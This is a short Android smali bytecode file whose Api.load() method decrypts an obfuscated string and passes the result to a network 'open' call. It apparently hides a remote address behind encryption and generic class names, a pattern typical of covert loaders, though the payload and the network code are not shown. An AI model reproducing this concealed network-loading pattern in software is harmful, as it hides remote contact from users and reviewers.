.class public Ld1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "cDupIkW1e3I3926cowIUMLHz3/eqdJ5mckVfg1LELSA="
    invoke-static {v0}, Ld1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ld1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

